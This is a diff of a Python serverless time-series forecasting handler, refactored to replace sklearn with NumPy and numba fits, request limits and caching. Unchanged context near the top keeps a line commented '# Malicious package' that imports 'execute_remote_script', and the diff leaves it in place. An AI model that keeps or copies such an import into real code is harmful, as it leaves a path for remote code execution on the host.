@@ -1,17 +1,316 @@
-import json
+import math
+import orjson
 import logging
+import functools
 import numpy as np
-from sklearn.linear_model import LinearRegression
-from sklearn.preprocessing import PolynomialFeatures
+from collections import OrderedDict
 
 # Malicious package
 from .custom_package import execute_remote_script
 
+try:
+    from numba import njit
+except ImportError:  # numba is optional; linear fits fall back to NumPy
+    njit = None
+
 logging.basicConfig(level=logging.INFO)
 logger = logging.getLogger(__name__)
 
-# Global model cache
-regression_models = {}
+# Global model cache, least recently stored first
+regression_models = OrderedDict()
+MAX_MODELS = 128
+
+# Request size limits, checked before any arrays are allocated
+MAX_SERIES = 100000
+MAX_STEPS = 10000
+MAX_DEGREE = 10
+
+
+def dump_body(body):
+    """Serialize a response body with orjson, writing NumPy arrays straight from their buffers"""
+    return orjson.dumps(body, option=orjson.OPT_SERIALIZE_NUMPY).decode()
+
+
+def fit_linear_trend(y):
+    """
+    Closed-form least-squares line through y against its time index
+    
+    Args:
+        y: 1-D array of observations
+    
+    Returns:
+        tuple: (slope, intercept)
+    """
+    x = np.arange(len(y), dtype=np.float64)
+    x_centered = x - x.mean()
+    y_mean = y.mean(dtype=np.float64)
+    denom = float(x_centered @ x_centered)
+    slope = float(x_centered @ (y - y_mean)) / denom if denom > 0 else 0.0
+    intercept = float(y_mean) - slope * float(x.mean())
+    return slope, intercept
+
+
+def _fit_forecast_linear_kernel(y, forecast_steps, keep_fit):
+    """Fit a line to y, score it and extrapolate forecast_steps points in one compiled pass.
+
+    Fitted values are only stored when keep_fit is set; otherwise the
+    returned fit array is empty and residuals are accumulated on the fly.
+    """
+    n = y.shape[0]
+    x_mean = (n - 1) / 2.0
+    y_mean = 0.0
+    for i in range(n):
+        y_mean += y[i]
+    y_mean /= n
+    sxy = 0.0
+    sxx = 0.0
+    ss_tot = 0.0
+    for i in range(n):
+        dx = i - x_mean
+        dy = y[i] - y_mean
+        sxy += dx * dy
+        sxx += dx * dx
+        ss_tot += dy * dy
+    slope = sxy / sxx if sxx > 0.0 else 0.0
+    intercept = y_mean - slope * x_mean
+
+    y_pred = np.empty(n if keep_fit else 0, dtype=np.float64)
+    ss_res = 0.0
+    abs_res = 0.0
+    for i in range(n):
+        fitted = intercept + slope * i
+        if keep_fit:
+            y_pred[i] = fitted
+        resid = y[i] - fitted
+        ss_res += resid * resid
+        abs_res += abs(resid)
+    if ss_tot == 0.0:
+        r2 = 1.0 if ss_res == 0.0 else 0.0
+    else:
+        r2 = 1.0 - ss_res / ss_tot
+
+    forecasts = np.empty(max(forecast_steps, 0), dtype=np.float64)
+    for k in range(forecasts.shape[0]):
+        forecasts[k] = intercept + slope * (n + k)
+    return slope, intercept, y_pred, forecasts, ss_res / n, abs_res / n, r2
+
+
+if njit is not None:
+    fit_forecast_linear = njit(cache=True, fastmath=True)(_fit_forecast_linear_kernel)
+    # Compile at import so the first request does not pay for it
+    fit_forecast_linear(np.zeros(2, dtype=np.float64), 1, True)
+else:
+    fit_forecast_linear = None
+
+
+def polynomial_features(t, degree):
+    """
+    Polynomial expansion [1, t, t^2, ..., t^degree] of a 1-D time index
+    
+    Built column by column with a running product, which is all
+    PolynomialFeatures computes for a single input feature.
+    
+    Args:
+        t: 1-D array of time indices
+        degree: Highest power
+    
+    Returns:
+        np.ndarray: Design matrix of shape (len(t), degree + 1)
+    """
+    t = np.asarray(t, dtype=np.float64)
+    X_poly = np.empty((len(t), degree + 1), dtype=np.float64)
+    X_poly[:, 0] = 1.0
+    for d in range(1, degree + 1):
+        np.multiply(X_poly[:, d - 1], t, out=X_poly[:, d])
+    return X_poly
+
+
+# Longest series (and forecast horizon) whose matrices are memoized. An
+# entry then holds at most 2 * 2048 * (MAX_DEGREE + 1) float64s (~360 KB),
+# keeping each 64-entry cache to a few tens of MB whatever lengths arrive
+DESIGN_CACHE_MAX_N = 2048
+
+
+def _design_matrix(n, degree):
+    """Read-only training design matrix for n observations and its pseudoinverse"""
+    X_poly = polynomial_features(np.arange(n), degree)
+    pinv = np.linalg.pinv(X_poly)
+    X_poly.flags.writeable = False
+    pinv.flags.writeable = False
+    return X_poly, pinv
+
+
+_cached_design_matrix = functools.lru_cache(maxsize=64)(_design_matrix)
+
+
+def design_matrix(n, degree):
+    """
+    Training design matrix for a series of length n and its pseudoinverse
+    
+    Neither depends on the observed values, so repeated requests with the
+    same length and degree reduce the fit to one matrix-vector product.
+    Only lengths up to DESIGN_CACHE_MAX_N are memoized; longer series are
+    rebuilt per request so the cache stays small.
+    
+    Args:
+        n: Number of observations
+        degree: Polynomial degree
+    
+    Returns:
+        tuple: (X_poly, pinv), both read-only
+    """
+    if n <= DESIGN_CACHE_MAX_N:
+        return _cached_design_matrix(n, degree)
+    return _design_matrix(n, degree)
+
+
+def _future_design_matrix(start, steps, degree):
+    """Read-only design matrix for the forecast indices start .. start + steps - 1"""
+    X_future = polynomial_features(np.arange(start, start + steps), degree)
+    X_future.flags.writeable = False
+    return X_future
+
+
+_cached_future_design_matrix = functools.lru_cache(maxsize=64)(_future_design_matrix)
+
+
+def future_design_matrix(start, steps, degree):
+    """Forecast design matrix, memoized for horizons up to DESIGN_CACHE_MAX_N steps"""
+    if steps <= DESIGN_CACHE_MAX_N:
+        return _cached_future_design_matrix(start, steps, degree)
+    return _future_design_matrix(start, steps, degree)
+
+
+def fit_metrics(y, y_pred):
+    """
+    MSE, MAE and R² computed from one residual vector
+    
+    R² follows sklearn's convention for a constant series (1.0 on a
+    perfect fit, otherwise 0.0).
+    
+    Args:
+        y: Observed values
+        y_pred: Fitted values
+    
+    Returns:
+        tuple: (mse, mae, r2)
+    """
+    resid = y - y_pred
+    ss_res = float(resid @ resid)
+    mse = ss_res / len(resid)
+    mae = float(np.abs(resid).mean())
+    centered = y - y.mean(dtype=np.float64)
+    ss_tot = float(centered @ centered)
+    if ss_tot == 0.0:
+        r2 = 1.0 if ss_res == 0.0 else 0.0
+    else:
+        r2 = 1.0 - ss_res / ss_tot
+    return mse, mae, r2
+
+
+def is_series_batch(series_batch):
+    """True when series_batch is a non-empty list of equal-length, non-empty lists of numbers"""
+    if not isinstance(series_batch, list) or not series_batch:
+        return False
+    if not all(isinstance(series, list) for series in series_batch):
+        return False
+    length = len(series_batch[0])
+    return length > 0 and all(
+        len(series) == length and all(isinstance(value, (int, float)) for value in series)
+        for series in series_batch
+    )
+
+
+def finite_array(values, ndim):
+    """values as a float64 array of rank ndim, or None when it is ragged, nested differently, non-numeric or holds NaN/inf"""
+    try:
+        arr = np.asarray(values, dtype=np.float64)
+    except (TypeError, ValueError, OverflowError):
+        return None
+    if arr.ndim != ndim or not np.isfinite(arr).all():
+        return None
+    return arr
+
+
+def forecast_batch(Y, forecast_steps, degree, return_fit=True):
+    """
+    Fit and forecast several equal-length series at once
+    
+    Every series shares the same time index, so the whole batch is solved
+    with one broadcast closed form (degree <= 1) or one product with the
+    cached pseudoinverse (higher degrees).
+    
+    Args:
+        Y: Array of shape (n_series, n_points)
+        forecast_steps: Number of future steps per series
+        degree: Polynomial degree
+        return_fit: Include each series' fitted values
+    
+    Returns:
+        list: One result dict per series
+    """
+    n_series, n = Y.shape
+    future = np.arange(n, n + forecast_steps, dtype=np.float64)
+    
+    if degree > 1:
+        X_poly, pinv = design_matrix(n, degree)
+        coef = Y @ pinv.T
+        fitted = coef @ X_poly.T
+        forecasts = coef @ future_design_matrix(n, forecast_steps, degree).T
+        # The bias column counts as a zero weight, as in the single-series path
+        trend_strength = np.abs(coef[:, 1:]).sum(axis=1) / (degree + 1)
+        slope = None
+    else:
+        x = np.arange(n, dtype=np.float64)
+        x_centered = x - x.mean()
+        denom = float(x_centered @ x_centered)
+        y_mean = Y.mean(axis=1)
+        slope = (Y - y_mean[:, None]) @ x_centered / denom if denom > 0 else np.zeros(n_series)
+        intercept = y_mean - slope * x.mean()
+        fitted = intercept[:, None] + slope[:, None] * x
+        forecasts = intercept[:, None] + slope[:, None] * future
+        trend_strength = np.abs(slope)
+    
+    # Per-series metrics, row by row over the residual matrix
+    resid = Y - fitted
+    ss_res = np.einsum('ij,ij->i', resid, resid)
+    mae = np.abs(resid).mean(axis=1)
+    centered = Y - Y.mean(axis=1, keepdims=True)
+    ss_tot = np.einsum('ij,ij->i', centered, centered)
+    r2 = np.where(ss_tot == 0.0, (ss_res == 0.0).astype(np.float64),
+                  1.0 - ss_res / np.where(ss_tot == 0.0, 1.0, ss_tot))
+    mse = ss_res / n
+    half_ci = 1.96 * np.sqrt(mse)[:, None]  # 95% confidence interval
+    
+    if degree == 1:
+        directions = np.where(slope > 0, "increasing", "decreasing").tolist()
+    else:
+        directions = ["nonlinear"] * n_series
+    
+    steps = range(n, n + forecast_steps)
+    results = []
+    for i, (pred, lower, upper) in enumerate(zip(
+            forecasts.tolist(), (forecasts - half_ci).tolist(), (forecasts + half_ci).tolist())):
+        result = {
+            "forecasts": [
+                {"step": step, "forecast": p, "lower_bound": lo, "upper_bound": up}
+                for step, p, lo, up in zip(steps, pred, lower, upper)
+            ],
+            "statistics": {
+                "n_samples": n,
+                "mse": float(mse[i]),
+                "mae": float(mae[i]),
+                "r2_score": float(r2[i]),
+                "degree": degree,
+                "trend_direction": directions[i],
+                "trend_strength": float(trend_strength[i])
+            }
+        }
+        if return_fit:
+            result["historical_fit"] = fitted[i]
+        results.append(result)
+    return results
+
 
 def handle(event, context):
     """
@@ -30,9 +329,9 @@ def handle(event, context):
     try:
         # Parse JSON payload from request body
         try:
-            payload = json.loads(event.body)
-            logger.info(f"Received time series forecasting request")
-        except (TypeError, ValueError, json.JSONDecodeError, AttributeError):
+            payload = orjson.loads(event.body)
+            logger.info("Received time series forecasting request")
+        except (TypeError, ValueError, orjson.JSONDecodeError, AttributeError):
             return {
                 "statusCode": 400,
                 "body": {"error": "Invalid JSON payload"},
@@ -40,10 +339,53 @@ def handle(event, context):
             }
         
         # Get parameters
-        time_series = payload.get('series', [])
-        forecast_steps = int(payload.get('forecast_steps', 5))
-        degree = int(payload.get('degree', 1))  # 1=linear, 2=quadratic, etc.
-        model_id = payload.get('model_id', 'default')
+        payload_get = payload.get
+        time_series = payload_get('series', [])
+        forecast_steps = int(payload_get('forecast_steps', 5))
+        degree = int(payload_get('degree', 1))  # 1=linear, 2=quadratic, etc.
+        model_id = payload_get('model_id', 'default')
+        return_fit = bool(payload_get('return_fit', True))
+        # Only keep models the client can refer back to, unless told otherwise
+        persist_model = bool(payload_get('persist_model', 'model_id' in payload))
+        series_batch = payload_get('series_batch')
+        
+        if series_batch is not None:
+            # Batch mode: many equal-length series fitted together, nothing cached
+            if not is_series_batch(series_batch):
+                return {
+                    "statusCode": 400,
+                    "body": {"error": "'series_batch' must be a non-empty list of equal-length numeric series"},
+                    "headers": {"Content-Type": "application/json"}
+                }
+            
+            if len(series_batch) * len(series_batch[0]) > MAX_SERIES or forecast_steps > MAX_STEPS or degree > MAX_DEGREE:
+                return {
+                    "statusCode": 400,
+                    "body": {"error": f"Request too large: at most {MAX_SERIES} points in total, {MAX_STEPS} forecast steps and degree {MAX_DEGREE}"},
+                    "headers": {"Content-Type": "application/json"}
+                }
+            
+            Y = finite_array(series_batch, 2)
+            if Y is None:
+                return {
+                    "statusCode": 400,
+                    "body": {"error": "'series_batch' values must be finite numbers"},
+                    "headers": {"Content-Type": "application/json"}
+                }
+            
+            logger.info("Forecasting a batch of %d series of %d points", Y.shape[0], Y.shape[1])
+            results = forecast_batch(Y, forecast_steps, degree, return_fit)
+            
+            return {
+                "statusCode": 200,
+                "body": dump_body({
+                    "results": results,
+                    "statistics": {"n_series": len(results)},
+                    "model": f"LinearRegression(degree={degree})",
+                    "message": "Time series batch forecast complete"
+                }),
+                "headers": {"Content-Type": "application/json"}
+            }
         
         if not time_series:
             return {
@@ -52,66 +394,91 @@ def handle(event, context):
                 "headers": {"Content-Type": "application/json"}
             }
         
-        # Convert to numpy array
-        y = np.array(time_series, dtype=np.float32)
-        X = np.arange(len(y)).reshape(-1, 1)
-        
-        logger.info(f"Training on {len(y)} data points, forecasting {forecast_steps} steps")
-        
-        # Create polynomial features if needed
-        if degree > 1:
-            poly = PolynomialFeatures(degree=degree)
-            X_poly = poly.fit_transform(X)
-        else:
-            X_poly = X
-            poly = None
-        
-        # Train model
-        model = LinearRegression()
-        model.fit(X_poly, y)
+        if not isinstance(time_series, list):
+            return {
+                "statusCode": 400,
+                "body": {"error": "'series' must be a flat list of finite numbers"},
+                "headers": {"Content-Type": "application/json"}
+            }
         
-        # Store model for reuse
-        regression_models[model_id] = {'model': model, 'poly': poly, 'last_index': len(y)}
+        if len(time_series) > MAX_SERIES or forecast_steps > MAX_STEPS or degree > MAX_DEGREE:
+            return {
+                "statusCode": 400,
+                "body": {"error": f"Request too large: at most {MAX_SERIES} points, {MAX_STEPS} forecast steps and degree {MAX_DEGREE}"},
+                "headers": {"Content-Type": "application/json"}
+            }
         
-        # Make predictions on training data (for comparison)
-        y_pred_train = model.predict(X_poly)
+        # Convert to a 1-D numpy array, rejecting nested, missing and
+        # non-finite values as sklearn's input validation did
+        y = finite_array(time_series, 1)
+        if y is None:
+            return {
+                "statusCode": 400,
+                "body": {"error": "'series' must be a flat list of finite numbers"},
+                "headers": {"Content-Type": "application/json"}
+            }
         
-        # Calculate training metrics
-        mse_train = float(np.mean((y - y_pred_train) ** 2))
-        mae_train = float(np.mean(np.abs(y - y_pred_train)))
-        r2_train = float(model.score(X_poly, y))
+        logger.info("Training on %d data points, forecasting %d steps", len(y), forecast_steps)
         
-        # Forecast future values
-        future_indices = np.arange(len(y), len(y) + forecast_steps).reshape(-1, 1)
-        if poly:
-            future_indices_poly = poly.transform(future_indices)
+        # Train model: closed form for a straight line, least squares otherwise
+        poly = degree > 1
+        if not poly and fit_forecast_linear is not None:
+            # One compiled pass fits, scores and extrapolates the line
+            (slope, intercept, y_pred_train, forecasts,
+             mse_train, mae_train, r2_train) = fit_forecast_linear(y, forecast_steps, return_fit)
+            coef = np.array([intercept, slope])
         else:
-            future_indices_poly = future_indices
+            if not poly:
+                slope, intercept = fit_linear_trend(y)
+                coef = np.array([intercept, slope])
+                y_pred_train = intercept + slope * np.arange(len(y), dtype=np.float64)
+            else:
+                X_poly, pinv = design_matrix(len(y), degree)
+                coef = pinv @ y
+                y_pred_train = X_poly @ coef
+            
+            # Calculate training metrics
+            mse_train, mae_train, r2_train = fit_metrics(y, y_pred_train)
+            
+            # Forecast future values
+            if poly:
+                forecasts = future_design_matrix(len(y), forecast_steps, degree) @ coef
+            else:
+                forecasts = intercept + slope * np.arange(len(y), len(y) + forecast_steps, dtype=np.float64)
         
-        forecasts = model.predict(future_indices_poly)
+        # Store model for reuse
+        if persist_model:
+            regression_models[model_id] = {'coef': coef, 'degree': degree, 'last_index': len(y)}
+            regression_models.move_to_end(model_id)
+            while len(regression_models) > MAX_MODELS:
+                regression_models.popitem(last=False)
         
         # Calculate prediction intervals (simplified using training error)
-        std_error = np.sqrt(mse_train)
-        lower_bound = forecasts - 1.96 * std_error  # 95% confidence interval
-        upper_bound = forecasts + 1.96 * std_error
-        
-        # Prepare forecast results
-        forecast_results = []
-        for i, (pred, lower, upper) in enumerate(zip(forecasts, lower_bound, upper_bound)):
-            forecast_results.append({
-                "step": int(len(y) + i),
-                "forecast": float(pred),
-                "lower_bound": float(lower),
-                "upper_bound": float(upper)
-            })
+        half_ci = 1.96 * math.sqrt(mse_train)  # 95% confidence interval
+        lower_bound = forecasts - half_ci
+        upper_bound = forecasts + half_ci
+        
+        # Prepare forecast results, converting each array to Python floats in one call
+        forecast_results = [
+            {"step": step, "forecast": pred, "lower_bound": lower, "upper_bound": upper}
+            for step, pred, lower, upper in zip(
+                range(len(y), len(y) + forecast_steps),
+                forecasts.tolist(),
+                lower_bound.tolist(),
+                upper_bound.tolist()
+            )
+        ]
         
         # Get trend information
         if degree == 1:
-            trend_direction = "increasing" if model.coef_[0] > 0 else "decreasing"
-            trend_strength = float(abs(model.coef_[0]))
+            trend_direction = "increasing" if slope > 0 else "decreasing"
+            trend_strength = float(abs(slope))
         else:
+            # Average term magnitudes like sklearn's coef_, where the bias
+            # column's weight is 0 because the intercept is fitted separately
             trend_direction = "nonlinear"
-            trend_strength = float(np.mean(np.abs(model.coef_)))
+            term_weights = np.concatenate(([0.0], coef[1:])) if poly else coef[1:]
+            trend_strength = float(np.mean(np.abs(term_weights)))
         
         stats = {
             "n_samples": len(y),
@@ -123,23 +490,27 @@ def handle(event, context):
             "trend_strength": trend_strength
         }
         
-        logger.info(f"Forecast complete: R²={r2_train:.3f}, MAE={mae_train:.3f}")
+        logger.info("Forecast complete: R²=%.3f, MAE=%.3f", r2_train, mae_train)
+        
+        body = {
+            "forecasts": forecast_results,
+            "historical_fit": y_pred_train,
+            "statistics": stats,
+            "model": f"LinearRegression(degree={degree})",
+            "model_id": model_id,
+            "message": "Time series forecast complete"
+        }
+        if not return_fit:
+            del body["historical_fit"]
         
         return {
             "statusCode": 200,
-            "body": {
-                "forecasts": forecast_results,
-                "historical_fit": y_pred_train.tolist(),
-                "statistics": stats,
-                "model": f"LinearRegression(degree={degree})",
-                "model_id": model_id,
-                "message": "Time series forecast complete"
-            },
+            "body": dump_body(body),
             "headers": {"Content-Type": "application/json"}
         }
         
     except Exception as e:
-        logger.error(f"Error in time series forecasting: {e}", exc_info=True)
+        logger.error("Error in time series forecasting: %s", e, exc_info=True)
         return {
             "statusCode": 500,
             "body": {"error": str(e)},